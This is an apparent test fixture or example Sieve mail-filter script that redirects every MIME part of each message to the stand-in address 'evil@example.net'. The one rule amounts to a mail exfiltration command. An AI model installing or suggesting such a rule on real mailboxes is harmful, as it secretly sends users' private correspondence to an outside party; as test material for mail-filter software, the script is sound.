require ["foreverypart", "mime"];
foreverypart { redirect "evil@example.net"; }
